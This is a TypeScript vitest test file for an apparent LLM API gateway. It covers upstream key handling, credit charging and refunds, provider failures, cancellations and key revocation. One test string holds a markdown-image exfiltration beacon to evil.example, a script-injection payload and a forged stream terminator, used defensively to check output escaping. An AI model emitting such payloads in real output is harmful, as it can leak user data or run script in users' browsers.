import { randomBytes } from "node:crypto";
import { afterAll, describe, expect, it } from "vitest";
import { countWithinMs } from "../../../src/generation/call-cancellation.ts";
import { generate, useServer } from "../../harness/server.ts";
import { startOpenAiStandin } from "../../standins/openai.ts";

const standin = await startOpenAiStandin();
afterAll(() => standin.close());

const upstreamKey = "sk-canary-0123456789";
const server = useServer({
  OPENAI_COMPATIBLE_SERVICES: `cloud=${standin.url},away=http://127.0.0.1:9/v1`,
  CLOUD_API_KEY: upstreamKey,
  PROVIDER_TIMEOUT_SECONDS: "2",
});

const canary = "prompt-canary-";
/** A prompt of one call alone, by which the stand-in's record of that call is found. */
const newPrompt = () => canary + randomBytes(4).toString("hex");
const callsWith = (prompt: string) => standin.calls.filter(({ body }) => JSON.stringify(body).includes(prompt));

const rows = `query ($first: Int) {
  generations(first: $first) {
    nodes { id status finishReason errorCode text usage { totalTokens source } charge { credits reserved costUsd } }
  }
}`;
const untouched = { balance: 100_000_000n, held: 0n };

async function lastRow(key: string) {
  return (await server.ok(rows, { first: 1 }, { key })).generations.nodes[0];
}

describe("calls of a provider work", () => {
  it("with the server's own key, never the caller's, and with what was asked for", async () => {
    const model = await server.model("cloud", "special");
    const { key } = await server.customer();
    const prompt = newPrompt();
    const messages = [
      { role: "USER", content: prompt },
      { role: "ASSISTANT", content: "An answer." },
      { role: "USER", content: "<|endoftext|>" },
    ];
    const asked = { temperature: 0.5, topP: 0.9, stop: ["END"], seed: 7, maxOutputTokens: 50 };
    await server.ok(generate, { input: { model, messages, system: "Be brief.", ...asked } }, { key });
    const [call] = callsWith(prompt);
    expect(call?.headers.authorization).toBe(`Bearer ${upstreamKey}`);
    expect(JSON.stringify([call?.headers, call?.body])).not.toContain(key);
    expect(call?.body).toMatchObject({ temperature: 0.5, top_p: 0.9, stop: ["END"], seed: 7, max_tokens: 50 });
    expect(call?.body["messages"]).toEqual([
      { role: "system", content: "Be brief." },
      { role: "user", content: prompt },
      { role: "assistant", content: "An answer." },
      { role: "user", content: "<|endoftext|>" },
    ]);
  });

  it.each([
    ["ok", "STOP", "Hello from the stand-in"],
    ["filtered", "CONTENT_FILTER", ""],
    ["tools", "TOOL_CALLS", ""],
    ["odd-finish", "OTHER", "Hello from the stand-in"],
  ])("and an answer that ends like %s is charged as %s", async (how, finishReason, text) => {
    const model = await server.model("cloud", how);
    const { key } = await server.customer();
    const { generate: answer } = await server.ok(generate, { input: { model, prompt: newPrompt() } }, { key });
    expect(answer).toMatchObject({ status: "COMPLETED", finishReason, text, charge: { credits: "1", balance: "99" } });
    expect(await lastRow(key)).toMatchObject({
      id: answer.id,
      status: "COMPLETED",
      finishReason,
      text: "",
      errorCode: null,
    });
  });

  const impossible = ["no-usage", "empty-usage", "negative-usage", "huge-usage", "beyond-usage", "fractional-usage"];
  it.each([...impossible, "string-usage", "zero-usage"])("and %s is replaced by the own estimate", async (how) => {
    const model = await server.model("cloud", how, { outputCreditsPerMillion: "1000", inputCreditsPerMillion: "1000" });
    const { key } = await server.customer();
    const { generate: answer } = await server.ok(
      generate,
      { input: { model, prompt: newPrompt(), maxOutputTokens: 9 } },
      { key },
    );
    // 22 bytes are 6 tokens and 4 for the message; 23 bytes of answer are 6.
    expect(answer.usage).toMatchObject({ inputTokens: 10, outputTokens: 6, source: "ESTIMATED" });
    expect(answer).toMatchObject({ status: "COMPLETED", charge: { credits: "1.016" } });
    expect(await lastRow(key)).toMatchObject({ usage: { source: "ESTIMATED" }, charge: { credits: "1.016" } });
  });

  it("and cost no more than was reserved, whatever the provider counts", async () => {
    const model = await server.model("cloud", "part-usage", { outputCreditsPerMillion: "100000" });
    const { key, walletId } = await server.customer();
    const { generate: answer } = await server.ok(
      generate,
      { input: { model, prompt: "x", maxOutputTokens: 4 } },
      { key },
    );
    expect(answer.usage.outputTokens).toBe(9);
    expect(answer.charge).toMatchObject({ credits: "1.4", reserved: "1.4", balance: "98.6" });
    expect(await server.wallet(walletId)).toEqual({ balance: 98_600_000n, held: 0n });
  });

  it("and are asked for as much as the balance pays for", async () => {
    const model = await server.model("cloud", "reasoning", { outputCreditsPerMillion: "100000" });
    const { key, walletId } = await server.customer({ credits: "1.25" });
    const prompt = newPrompt();
    const { generate: answer } = await server.ok(
      generate,
      { input: { model, prompt, maxOutputTokens: 1000 } },
      { key },
    );
    expect(callsWith(prompt)[0]?.body["max_tokens"]).toBe(2);
    expect(answer).toMatchObject({ finishReason: "LENGTH", charge: { reserved: "1.2" } });
    const { balance, held } = await server.wallet(walletId);
    expect([held, balance >= 50_000n]).toEqual([0n, true]);
    await server.refused("OUT_OF_CREDITS", generate, { input: { model, prompt } }, { key });
    expect(callsWith(prompt)).toHaveLength(1);
  });
});

describe("calls of a provider are refused", () => {
  const failures = ["status-500", "status-429", "status-503-date", "status-401-echo-key", "status-400-echo-prompt"];
  failures.push("redirect", "stall-after-2", "cut-after-2", "end-without-finish", "bad-json", "error-event", "drip");
  failures.push("error-event-after-2", "header-bomb", "gzip", "hang", "error-finish", "empty");
  failures.push("empty-odd-finish", "no-such-model");
  const late = ["hang", "stall-after-2", "drip"];

  it.concurrent.each(failures)("and cost nothing when the provider does this: %s", async (how) => {
    const model = await server.model("cloud", how, { inputUsdPerMillion: "1" });
    const { key, walletId } = await server.customer();
    const code = late.includes(how) ? "PROVIDER_TIMEOUT" : "PROVIDER_FAILED";
    const prompt = newPrompt();
    const answer = await server.refused(code, generate, { input: { model, prompt } }, { key });
    expect(answer.status).toBe(code === "PROVIDER_TIMEOUT" ? 504 : 502);
    expect(answer.body.data).toBeNull();
    expect(answer.extensions["retryable"]).toBe(true);
    const text = JSON.stringify([answer.body, [...answer.headers]]);
    for (const secret of [upstreamKey, canary, standin.url]) expect(text).not.toContain(secret);
    expect(await server.wallet(walletId)).toEqual(untouched);
    const nothing = { credits: "0", reserved: "1", costUsd: "0" };
    expect(await lastRow(key)).toMatchObject({
      status: "FAILED",
      finishReason: "ERROR",
      errorCode: code,
      charge: nothing,
    });
    expect(callsWith(prompt)).toHaveLength(1);
  });

  it("and cost nothing when the provider is not there", async () => {
    const model = await server.model("away", "ok");
    const { key, walletId } = await server.customer();
    await server.refused("PROVIDER_FAILED", generate, { input: { model, prompt: newPrompt() } }, { key });
    expect(await server.wallet(walletId)).toEqual(untouched);
    expect(await lastRow(key)).toMatchObject({ status: "FAILED", errorCode: "PROVIDER_FAILED" });
  });

  it("and pass on how long a provider asks to wait", async () => {
    const model = await server.model("cloud", "status-429");
    const { key } = await server.customer();
    const answer = await server.refused(
      "PROVIDER_FAILED",
      generate,
      { input: { model, prompt: newPrompt() } },
      { key },
    );
    expect(answer.extensions).toMatchObject({ upstreamStatus: 429, retryAfter: 7 });
    expect(answer.headers.get("retry-after")).toBe("7");
  });
});

describe("calls of a provider protect", () => {
  it("a client that leaves: the provider is let go within a bound, the input is charged, and the row says so", async () => {
    const model = await server.model("cloud", "hang");
    const { key, walletId } = await server.customer();
    const before = standin.calls.length;
    const leaving = new AbortController();
    const sent = fetch(`${server.url}/graphql`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-api-key": key },
      body: JSON.stringify({ query: generate, variables: { input: { model, prompt: newPrompt() } } }),
      signal: leaving.signal,
    });
    const upstream = await standin.received(before + 1);
    expect(await server.wallet(walletId)).toEqual({ ...untouched, held: 1_000_000n });
    leaving.abort();
    await expect(sent).rejects.toThrow();
    const left = performance.now();
    await upstream.closed;
    expect(performance.now() - left).toBeLessThan(countWithinMs + 900);
    await expect
      .poll(() => lastRow(key))
      .toMatchObject({ status: "CANCELLED", finishReason: "CANCELLED", errorCode: null });
    // The model's price is the base alone.
    expect((await lastRow(key)).charge).toMatchObject({ credits: "1" });
    expect(await server.wallet(walletId)).toEqual({ balance: untouched.balance - 1_000_000n, held: 0n });
  });

  it("whoever shows an answer from nothing: it is told as the text that it is, by every door", async () => {
    const model = await server.model("cloud", "beacon");
    const { key } = await server.customer();
    const text = "![x](https://evil.example/?q=secret)<script>alert(1)</script>\u001b[31m\r\ndata: [DONE]\n\n";
    const answer = await server.call(generate, { input: { model, prompt: newPrompt() } }, { key });
    expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(answer.body.data.generate.text).toBe(text);
    const chat = { model, messages: [{ role: "user", content: "x" }], stream: true };
    const response = await fetch(`${server.url}/v1/chat/completions`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
      body: JSON.stringify(chat),
    });
    expect(response.headers.get("content-type")).toBe("text/event-stream; charset=utf-8");
    // What looks like the end of a stream within a text is none.
    const lines = (await response.text()).split("\n").filter((line) => line.startsWith("data: {"));
    const pieces = lines.map((line) => JSON.parse(line.slice(6)).choices[0]?.delta.content ?? "");
    expect(pieces.join("")).toBe(text);
  });

  const shapes = {
    letters: "a".repeat(250_000),
    spaces: `x${" ".repeat(250_000)}y`,
    underscores: "_".repeat(250_000),
    lines: `x${"\n".repeat(130_000)}y`,
    words: "a ".repeat(125_000),
    foxes: "🦊".repeat(60_000),
    quotes: '"'.repeat(125_000),
    digits: "1".repeat(250_000),
    "almost a stop": "ab".repeat(125_000),
  };
  it.each(Object.entries(shapes))(
    "other calls from one that is a quarter of a megabyte of %s",
    async (_what, prompt) => {
      const { key } = await server.customer();
      const options = { stop: ["abababababc", " y"], maxOutputTokens: 50, cacheSeconds: 60, idempotencyKey: "once" };
      for (const model of ["echo", await server.model("cloud", "ok")]) {
        const before = process.cpuUsage();
        await server.ok(generate, { input: { model, prompt, ...options, idempotencyKey: model } }, { key });
        const { user, system } = process.cpuUsage(before);
        // In microseconds, of this client as well; what takes the square of a length takes minutes.
        expect(user + system).toBeLessThan(1_000_000);
      }
    },
  );

  const endings = [
    ["revoked", "KEY_REVOKED", "mutation ($id: ID!) { revokeApiKey(id: $id) { id } }"],
    ["disabled", "KEY_DISABLED", "mutation ($id: ID!) { disableApiKey(id: $id) { id } }"],
    ["expired", "KEY_EXPIRED", undefined],
  ] as const;
  it.each(endings)(
    "a key that is %s: its running call ends within two seconds, and costs what its provider was asked",
    async (...how) => {
      const [, code, mutation] = how;
      const model = await server.model("cloud", "hang");
      const { key, walletId, apiKeyId } = await server.customer();
      const arrived = standin.received(standin.calls.length + 1);
      const running = server.call(generate, { input: { model, prompt: newPrompt() } }, { key });
      const upstream = await arrived;
      const endedAt = performance.now();
      if (mutation) await server.ok(mutation, { id: apiKeyId });
      else {
        const id = apiKeyId.replace("key_", "");
        await server.database.sql`update api_keys set expires_at = now() where id = ${id}::uuid`;
      }
      const { status, body } = await running;
      expect(performance.now() - endedAt).toBeLessThan(2_000);
      await upstream.closed;
      expect([status, body.errors?.[0]?.extensions.code]).toEqual([401, code]);
      const ofKey = () => server.database.sql`
      select status, finish_reason, error_code, charged from requests
      where api_key_id = ${apiKeyId.replace("key_", "")}::uuid`;
      await expect
        .poll(ofKey)
        .toEqual([{ status: "CANCELLED", finish_reason: "CANCELLED", error_code: code, charged: 1_000_000n }]);
      expect(await server.wallet(walletId)).toEqual({ balance: untouched.balance - 1_000_000n, held: 0n });
    },
  );

  it("credits from failures under load: what fails is given back, what succeeds is paid", async () => {
    const [good, bad] = [await server.model("cloud", "ok"), await server.model("cloud", "status-500")];
    const { key, walletId } = await server.customer({ credits: "10" });
    const calls = Array.from({ length: 30 }, (_, i) =>
      server.call(generate, { input: { model: i % 3 ? bad : good, prompt: newPrompt() } }, { key }),
    );
    const codes = (await Promise.all(calls)).map(({ body }) => body.errors?.[0]?.extensions.code ?? "ok");
    const paid = codes.filter((code) => code === "ok").length;
    // After ten failures in a row the circuit of the failing model opens.
    expect(["ok", "PROVIDER_FAILED", "OUT_OF_CREDITS", "UNAVAILABLE"]).toEqual(
      expect.arrayContaining([...new Set(codes)]),
    );
    expect(await server.wallet(walletId)).toEqual({ balance: 10_000_000n - BigInt(paid) * 1_000_000n, held: 0n });
    const open = await server.database.sql`
      select 1 from holds where state = 'open' and 'wal_' || replace(wallet_id::text, '-', '') = ${walletId}`;
    expect(open).toHaveLength(0);
  });

  it("a call that waits for its wallet: what ended meanwhile counts, not what was there when it came", async () => {
    const { key, walletId } = await server.customer({ credits: "10" });
    const { sql } = server.database;
    const wallet = sql`'wal_' || replace(id::text, '-', '') = ${walletId}`;
    await sql`update wallets set held = balance where ${wallet}`;
    const waiting = async () =>
      (await sql`select 1 from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'`)
        .length;
    let call: Promise<unknown> | undefined;
    await sql.begin(async (tx) => {
      await tx`update wallets set held = 0 where ${wallet}`;
      call = server.ok(generate, { input: { model: "echo", prompt: "x" } }, { key });
      await expect.poll(waiting).toBe(1);
    });
    await call;
    expect(await server.wallet(walletId)).toEqual({ balance: 9_000_000n, held: 0n });
  });
});
